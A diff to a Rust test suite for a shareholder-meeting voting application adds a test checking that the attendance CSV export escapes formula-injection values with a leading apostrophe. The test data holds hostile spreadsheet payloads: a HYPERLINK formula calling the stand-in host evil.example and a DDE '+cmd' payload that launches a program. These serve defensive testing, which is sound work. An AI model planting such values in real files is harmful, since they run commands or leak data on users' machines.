@@ -8,7 +8,7 @@ use asamblea_wire::{Choice, HolderVote, Id};
 use axum::http::{Method, StatusCode};
 use serde_json::{json, Value};
 
-use super::fixture::{not_run, Api, DEMO_MEETING, MERGER_MEETING, MERGER_REGISTER};
+use super::fixture::{not_run, Api, DEMO_MEETING, DEMO_REGISTER, MERGER_MEETING, MERGER_REGISTER};
 
 #[tokio::test]
 async fn a_new_meeting_records_its_holders_names_and_its_meeting_file_in_the_ledger() {
@@ -196,4 +196,28 @@ async fn the_secretary_downloads_the_tallies_made_from_the_verified_bundle() {
     let (status, bytes) = api.bytes_as("/api/v1/exports/acta.docx", Role::Secretary).await;
     assert_eq!(status, StatusCode::OK);
     assert!(bytes.starts_with(b"PK\x03\x04"), "a zip archive");
+}
+
+#[tokio::test]
+async fn a_name_or_id_a_spreadsheet_would_run_as_a_formula_is_downloaded_as_text() {
+    let register = DEMO_REGISTER
+        .replace(
+            "NIT-800100200,\"Fondo de Pensiones Porvenir del Sur S.A.\"",
+            "-1-1,\"=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\"",
+        )
+        .replace("\"Inversiones Alfa, S.A.S.\"", "\"+cmd|' /C calc'!A0\"")
+        .replace("\"Fiduciaria Andina S.A. – Patrimonio Autónomo\"", "@SUM(1)");
+    let api = Api::new("formulas", DEMO_MEETING, &register);
+    for holder in ["-1-1", "NIT-800200300", "NIT-800300400"] {
+        api.check_in(holder).await;
+    }
+    let (status, csv) = api.text_as("/api/v1/exports/resultados.csv?tabla=asistencia", Role::Secretary).await;
+    assert_eq!(status, StatusCode::OK, "{csv}");
+    for line in [
+        "\"'-1-1\";\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\";18000000;en persona\r\n",
+        "NIT-800200300;\"'+cmd|' /C calc'!A0\";13000000;en persona\r\n",
+        "NIT-800300400;\"'@SUM(1)\";6000000;en persona\r\n",
+    ] {
+        assert!(csv.contains(line), "lacks {line:?}: {csv}");
+    }
 }
